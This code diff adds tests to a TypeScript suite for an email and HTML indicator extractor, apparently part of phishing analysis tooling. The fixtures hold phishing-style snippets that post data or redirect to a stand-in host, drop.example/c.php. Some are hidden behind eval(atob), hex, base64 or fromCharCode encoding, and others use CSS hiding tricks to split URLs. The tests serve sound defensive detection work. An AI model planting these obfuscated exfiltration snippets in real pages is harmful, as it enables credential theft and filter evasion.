@@ -1,4 +1,5 @@
-import { extractIndicators, type ExtractOptions, type Indicator } from '../../../lib/indicators';
+import { extractIndicators, isValidIndicator, type ExtractOptions, type Indicator } from '../../../lib/indicators';
+import { attachment, message } from './messages';
 
 // Reserved names and addresses throughout: `documentation` is left out of what is compared.
 const brief = ({ type, value, flags, defanged }: Indicator): string => {
@@ -313,5 +314,207 @@ describe('embedded-target: a URL inside of another is told, and the outer one to
 		const nested = `https://open.example/${'?u=https://a.example/'.repeat(200)}`;
 		expect(extractIndicators({ text: nested }).filter(({ type }) => type === 'url').length).toBeLessThanOrEqual(9);
 		expect(inText('https://open.example/?u=http%3A%2F%2F&v=https://')).toHaveLength(2);
+	});
+});
+
+describe('html-script-urls, meta-refresh, links of CSS and of all attributes: what the machine reads', () => {
+	const inHtml = (html: string): string[] =>
+		extractIndicators({ html })
+			.filter(({ type }) => type === 'url')
+			.map(({ value, sources }) => `${value} ${sources[0]?.field}`);
+
+	it.each([
+		['<script>$.post("https://drop.example/c.php",d)</script>', 'script'],
+		["<script>fetch('https:\\/\\/drop.example\\/c.php?e='+x)</script>", 'script', '?e='],
+		['<button onclick="location=&quot;https://drop.example/c.php&quot;">x</button>', 'button[onclick]'],
+		['<a href="javascript:location=%22https://drop.example/c.php%22">x</a>', 'a[href]'],
+		[
+			`<script>document.write(unescape("%3Cform action%3D%22https%3A//drop.example/c.php%22%3E"))</script>`,
+			'form[action]',
+		],
+		[
+			`<script>eval(atob("${Buffer.from('location="https://drop.example/c.php"').toString('base64')}"))</script>`,
+			'script',
+		],
+		[`<script>var u = '${Buffer.from('https://drop.example/c.php').toString('base64')}'</script>`, 'script'],
+		[`<script>var u = '${Buffer.from('https://drop.example/c.php').toString('hex')}'</script>`, 'script'],
+		[
+			`<script>x(String.fromCharCode(${[...'https://drop.example/c.php'].map((c) => c.charCodeAt(0)).join(', ')}))</script>`,
+			'script',
+		],
+		['<script>x("\\x68\\x74\\x74\\x70\\x73://drop.example/c.php")</script>', 'script'],
+		[
+			`<iframe src="data:text/html;base64,${Buffer.from('<form action="https://drop.example/c.php">').toString('base64')}">`,
+			'form[action]',
+		],
+		['<iframe srcdoc="<form action=&quot;https://drop.example/c.php&quot;>">', 'form[action]'],
+		['<meta http-equiv="refresh" content="0; https://drop.example/c.php">', 'meta[refresh]'],
+		['<td style="background:url(\'https://drop.example/c.php\')">', 'td[style]'],
+		['<style>@import "https://drop.example/c.php"; p{color:red}</style>', 'style'],
+		['<a data-saferedirecturl="https://drop.example/c.php">x</a>', 'a[data-saferedirecturl]'],
+	])('%s', (html, field, query = '') => {
+		expect(inHtml(html)).toEqual([`https://drop.example/c.php${query} ${field}`]);
+	});
+
+	it('names nothing that only looks like a host in a program', () => {
+		expect(
+			extractIndicators({ html: '<script>window.open(a.info); this.id = node.name; user.email</script>' }),
+		).toEqual([]);
+		expect(
+			inHtml('<html xmlns="http://www.w3.org/1999/xhtml" itemtype="http://schema.org/x"><q cite="http://a.example/">'),
+		).toEqual([]);
+	});
+
+	it('decodes no deeper, and no more, than the limits', () => {
+		let code = 'location="https://drop.example/deep"';
+		for (let depth = 0; depth < 8; depth++) code = `eval(atob("${Buffer.from(code).toString('base64')}"))`;
+		expect(extractIndicators({ html: `<script>${code}</script>` })).toEqual([]);
+	});
+});
+
+describe('hidden-text: what the reader sees, and what stands there', () => {
+	it.each([
+		'display:none',
+		'font-size:0',
+		'font-size: 0px; color:red',
+		'visibility: hidden',
+		'opacity:0',
+		'mso-hide:all',
+	])('%s', (style) => {
+		const found = extractIndicators({
+			html: `<p>https://dr<span style="${style}">XX</span>op.example/a <b>and</b> <div style="${style}">see two.example</div></p>`,
+		}).map(brief);
+		expect(found).toEqual([
+			'url https://drop.example/a',
+			'domain-name drop.example',
+			'domain-name two.example (hidden-text)',
+		]);
+	});
+
+	it('an element inside of a hidden one of its name does not end it, what follows is seen', () => {
+		const found = extractIndicators({
+			html: '<div hidden><div>a.example</div> b.example</div> c.example <div style="display:block;font-size:10px">d.example</div>',
+		}).map(brief);
+		expect(found).toEqual([
+			'domain-name c.example',
+			'domain-name d.example',
+			'domain-name a.example (hidden-text)',
+			'domain-name b.example (hidden-text)',
+		]);
+	});
+});
+
+describe('texts by their type', () => {
+	const inFile = (text: string | Buffer, fileName: string, contentType = 'application/octet-stream'): string[] =>
+		extractIndicators(message({ attachments: [attachment(text, { fileName, contentType })] }), {
+			attachments: false,
+		}).map(({ value }) => value);
+
+	it('ics-folding: calendars and cards are unfolded and decoded', () => {
+		expect(
+			inFile(
+				'BEGIN:VCALENDAR\r\nDESCRIPTION:Join https://meet.drop.example/portal/lo\r\n ng/verify?a=1\\nor https://two.ex\r\n\tample/x\\, please\r\nEND:VCALENDAR\r\n',
+				'invite.ics',
+			),
+		).toEqual([
+			'https://meet.drop.example/portal/long/verify?a=1',
+			'meet.drop.example',
+			'https://two.example/x',
+			'two.example',
+		]);
+		expect(
+			inFile('BEGIN:VCARD\r\nURL;ENCODING=QUOTED-PRINTABLE:https://drop.example/=\r\na=3Fb\r\n', 'x.vcf'),
+		).toContain('https://drop.example/a?b');
+		expect(
+			inFile(
+				`ATTACH;ENCODING=BASE64;VALUE=BINARY:${Buffer.from('go to https://drop.example/a').toString('base64')}`,
+				'x.ics',
+			),
+		).toContain('https://drop.example/a');
+	});
+
+	it('tables are read by cell, JSON without its escapes', () => {
+		expect(inFile('url;note\nhttps://drop.example/a?b=1;two.example\n', 'x.csv')).toEqual([
+			'https://drop.example/a?b=1',
+			'drop.example',
+			'two.example',
+		]);
+		expect(inFile('{"a":"x\\nhttps:\\/\\/drop.example\\/a\\ntwo.example"}', 'x.json')).toEqual([
+			'https://drop.example/a',
+			'drop.example',
+			'two.example',
+		]);
+	});
+
+	it.each(['x.wsf', 'x.jse', 'x.vbe', 'x.psm1', 'x.rdp', 'x.library-ms', 'x.search-ms', 'x.website', 'x.xslt'])(
+		'text-file-types: %s',
+		(name) => {
+			expect(inFile('full address:s:drop.example\nhttps://two.example/a', name)).toContain('two.example');
+		},
+	);
+
+	it('text-file-types: HTML without a name, with a dot behind it, in a web archive', () => {
+		const form = '<!DOCTYPE html><form action="https://drop.example/a">';
+		expect(inFile(form, 'document')).toContain('https://drop.example/a');
+		expect(inFile(form, 'x.htm.')).toContain('https://drop.example/a');
+		expect(
+			inFile(
+				'Content-Transfer-Encoding: quoted-printable\r\n\r\n<form action=3D"https://drop.exam=\r\nple/a">',
+				'x.mht',
+			),
+		).toContain('https://drop.example/a');
+		expect(inFile(`document.write(atob("${Buffer.from(form).toString('base64')}"))`, 'x.js')).toContain(
+			'https://drop.example/a',
+		);
+	});
+
+	it('inline-text-parts, outside-text: every text of the message', () => {
+		const part = (contentType: string, text: string) => ({ partId: '1', contentType, size: text.length, text });
+		const found = extractIndicators(
+			message({
+				parts: [
+					part('text/calendar', 'LOCATION:https://drop.example/lo\n c\nORGANIZER:mailto:boss@drop.example'),
+					part('text/x-amp-html', '<a href="https://two.example/amp">x</a>'),
+					part('message/feedback-report', 'Source-IP: 198.51.100.7\nReported-URI: https://three.example/arf'),
+					part('text/rfc822-headers', 'Message-ID: <a@four.example>\nFrom: b@five.example\n'),
+				],
+				outsideText: 'https://six.example/pre',
+			}),
+		);
+		expect(
+			found
+				.filter(({ type }) => type !== 'domain-name')
+				.map(({ value, sources }) => `${value} ${sources[0]?.part} ${sources[0]?.field}`),
+		).toEqual([
+			'https://drop.example/loc text text/calendar',
+			'boss@drop.example text text/calendar',
+			'https://two.example/amp html a[href]',
+			'198.51.100.7 text message/feedback-report',
+			'https://three.example/arf text message/feedback-report',
+			'b@five.example text text/rfc822-headers',
+			'https://six.example/pre outside undefined',
+		]);
+	});
+
+	it.each([
+		['admin=own.example@esp.example', 'admin=own.example@esp.example'],
+		['Deals/X@shop.example', 'deals/x@shop.example'],
+		['a!b@shop.example', 'a!b@shop.example'],
+		['$x@shop.example', '$x@shop.example'],
+		['"a b"@shop.example', '"a b"@shop.example'],
+		['\u7528\u6237@shop.example', '\u7528\u6237@shop.example'],
+		[`${'a'.repeat(70)}@shop.example`, `${'a'.repeat(70)}@shop.example`],
+		['ceo@mail.notasuffix', 'ceo@mail.notasuffix'],
+		['SMTP:ceo@shop.example', 'ceo@shop.example'],
+	])('sender-address-altered: %s', (address, value) => {
+		const found = extractIndicators(
+			message({
+				from: [{ address }],
+				returnPath: address,
+				authenticationResults: address.includes('"') ? [] : [`mx; spf=pass smtp.mailfrom=${address}`],
+			}),
+		).filter(({ type }) => type === 'email-addr');
+		expect(found.map((one) => one.value)).toEqual([value]);
+		expect(found.every(isValidIndicator)).toBe(true);
 	});
 });
